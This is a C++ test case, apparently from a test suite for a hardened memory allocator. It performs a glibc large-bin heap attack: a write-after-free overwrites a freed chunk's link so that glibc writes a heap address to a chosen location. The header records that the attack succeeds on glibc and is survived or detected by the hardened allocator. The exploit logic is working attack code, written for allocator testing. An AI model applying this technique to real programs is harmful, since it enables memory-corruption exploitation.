// attack: overwrite a link of a large freed block: glibc's sorting writes a heap address wherever
// attack: the attacker wants
// fault: write-after-free
// cases: 1064 2088
// glibc: * succeeds
// hakmem: fast,hardened * survives
// hakmem: * * write-after-free@reuse
#include "attack.h"

namespace {
uintptr_t target[8];
}

int main(int argc, char** argv) {
  const size_t size_bytes = attack::size_argument(argc, argv);
  char* larger = attack::take(size_bytes);
  attack::take(24);
  char* smaller = attack::take(size_bytes - 16);
  attack::take(24);
  attack::give(larger);
  attack::take(size_bytes + 16);  // sorts the larger one into its bin
  attack::give(smaller);
  attack::begin_misuse();
  attack::poke<uintptr_t>(larger, 24, attack::address(&target[0]));
  attack::end_misuse();
  attack::take(size_bytes + 16);  // sorts the smaller one
  for (const uintptr_t& word : target) {
    if (attack::peek<uintptr_t>(&word, 0) != 0) attack::succeeded("a chosen address was written");
  }
  attack::churn(size_bytes);
  attack::failed("a chosen address was written");
}
